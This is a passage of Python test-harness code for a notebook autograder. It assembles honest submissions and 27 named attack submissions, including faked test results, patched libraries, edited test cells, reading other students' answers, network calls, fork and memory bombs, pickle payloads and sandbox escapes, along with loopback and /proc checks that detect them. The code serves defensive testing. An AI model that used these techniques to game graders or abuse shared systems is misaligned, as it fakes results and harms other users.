    at = next(i for i, c in enumerate(nb.cells) if "setup" in c.get("metadata", {}).get("tags", [])) + 1
    nb.cells[at:at] = [_cell(s) for s in sources]
    return nb


def _insert_before_test(nb, test, *sources):
    at = next(i for i, c in enumerate(nb.cells) if is_test(c) and grade_id(c) == test)
    nb.cells[at:at] = [_cell(s) for s in sources]
    return nb


def _test_cell(nb, test):
    return next(c for c in nb.cells if is_test(c) and grade_id(c) == test)


def blank():
    return submissions.make_submission(SLUG)


def defining(code, defined=None):
    """The blank release with ``code`` in a cell after the setup cell, and the answer cells of the
    functions ``code`` defines (``defined``, or read from its ``def``s and assignments) left empty,
    so their stubs do not replace the attack's versions."""
    if defined is None:
        defined = set(re.findall(r"^def (\w+)\(", code, flags=re.M))
        for line in re.findall(r"^(\w+(?: = \w+)*) = ", code, flags=re.M):
            defined |= set(line.split(" = "))
    answers = {name: f"# {name}: defined in the cell after the imports" for name in SOLUTIONS if name in defined}
    return _insert_after_setup(submissions.make_submission(SLUG, answers), code)


def wrong():
    return submissions.make_submission(SLUG, dict(WRONG))


def _edited_tests():
    nb = blank()
    _test_cell(nb, "test_relu").source = "relu"
    sigmoid = _test_cell(nb, "test_sigmoid")
    sigmoid.source = "pass"
    sigmoid.metadata["nbgrader"]["points"] = 100
    tanh = _test_cell(nb, "test_tanh")
    tanh.source = "True"
    tanh.metadata["nbgrader"]["points"] = 50
    _test_cell(nb, "test_softmax").metadata["nbgrader"]["points"] = 0.5
    bonus = _cell("pass")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "test_bonus", "locked": True, "points": 70,
                                  "schema_version": 3, "solution": False, "task": False}
    nb.cells.append(bonus)
    return nb


def reference_answers_code():
    """The reference answers as one block of code (what the loopback server hands out)."""
    return "import numpy as np\n\n" + "\n\n".join(submissions.reference_answers(SLUG).values()) + "\n"


def build(t):
    """``{student_id: notebook}``: the honest students and every attack, aimed at ``t`` (Targets)."""
    names = list(SOLUTIONS)
    nbs = {
        "a-honest-reference": submissions.complete(SLUG),
        "b-honest-loops": submissions.make_submission(SLUG, dict(LOOPS)),
        "zz-honest": submissions.complete(SLUG),
        "x01-fake-autograder-module": _insert_after_setup(wrong(), FAKE_AUTOGRADER),
        "x02-edit-checks-file": _insert_after_setup(wrong(), _code(EDIT_CHECKS, root=t.root, payload=PASS_ALL_CHECKS)),
        "x03-patch-numpy-torch": _insert_after_setup(wrong(), PATCH_NUMPY_TORCH),
        "x04-patch-builtins": _insert_after_setup(wrong(), PATCH_BUILTINS),
        "x05-input-transformer": _insert_after_setup(blank(), _code(INPUT_TRANSFORMER, hardcoded=HARDCODED)),
        "x06-custom-exception-handler": _insert_after_setup(blank(), CUSTOM_EXC),
        "x07-edited-test-cells": _edited_tests(),
        "x08-lying-object": defining(LYING_OBJECT),
        "x09-lying-array-subclass": defining(LYING_SUBCLASS),
        "x10-read-source-notebook": defining(_code(READ_SOURCE, root=t.root), SOLUTIONS),
        "x11-import-autograder": defining(_code(IMPORT_AUTOGRADER, root=t.root, names=names), SOLUTIONS),
        "x12-read-other-student": defining(_code(READ_OTHER, victim_copy=t.copy_of_victim(), out=t.out), SOLUTIONS),
        "x13-write-outside": _insert_after_setup(blank(), _code(
            WRITE_OUTSIDE, paths=[str(p) for p in t.outside_writes().values()], token=t.token)),
        "x14-network": defining(_code(NETWORK, port=t.port, hosts=list(t.outside_hosts), name=t.outside_name),
                                SOLUTIONS),
        "x15-sys-exit": _insert_after_setup(submissions.make_submission(SLUG, {"relu": SYS_EXIT_FUNCTION.strip()}),
                                            SYS_EXIT_CELL, SYS_EXIT_MORE),
        "x16-os-exit": _insert_after_setup(blank(), OS_EXIT),
        "x17-infinite-loop": _insert_after_setup(blank(), INFINITE_LOOP),
        "x18-stubborn-loop": _insert_after_setup(blank(), STUBBORN_LOOP),
        "x19-memory-bomb": _insert_after_setup(submissions.make_submission(SLUG, {"relu": MEMORY_FUNCTION.strip()}),
                                               MEMORY_BOMB),
        "x20-memory-children": _insert_after_setup(blank(), MEMORY_CHILDREN),
        "x21-fork-bomb": _insert_after_setup(blank(), _code(FORK_BOMB, seconds=t.fork_sleep(), forks=t.forks)),
        "x22-leftover-process": _insert_after_setup(blank(), _code(LEFTOVER, marker=t.process_marker())),
        "x23-output-flood": _insert_after_setup(blank(), OUTPUT_FLOOD),
        "x24-pickle-payload": defining(_code(PICKLE_PAYLOAD, marker=t.marker("x24-pickle"))),
        "x25-forged-wire": defining(_code(FORGED_WIRE, marker=t.marker("x25-pickle"))),
        "x26-escape-lent-class": defining(_code(ESCAPE, targets=t.escape_targets())),
        "x27-low-precision-dtype": defining(LOW_PRECISION),
    }
    return nbs


def write_all(nbs, folder):
    for student, nb in nbs.items():
        submissions.write(nb, Path(folder) / student / f"{SLUG}.ipynb")


# --- what the tests look at -----------------------------------------------------------------

class LoopbackServer:
    """A TCP server on 127.0.0.1 that hands every client ``payload`` and counts the connections."""

    def __init__(self, payload):
        self.payload = payload.encode()
        self.connections = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, addr = self.sock.accept()
            except OSError:
                continue
            self.connections.append(addr)
            with conn:
                try:
                    conn.sendall(self.payload)
                except OSError:
                    pass

    def close(self):
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


def processes_with(marker):
    """``[(pid, command line)]`` of the processes on this machine whose command line holds ``marker``."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if marker in cmdline:
            found.append((int(entry), cmdline.strip()))
    return found


def scratch_report(out, student, name):
    """A file an attack wrote in its own scratch folder (what it saw), or None."""
    path = Path(out) / ".work" / "students" / student / "scratch" / name
    return path.read_text(errors="replace") if path.exists() else None


def summary(results):
    """``[(student, score, status, message)]`` for a report."""
    return [(r.student_id, r.score, r.status, (r.message or json.dumps(r.messages)[:100]))
            for r in sorted(results, key=lambda r: r.student_id)]
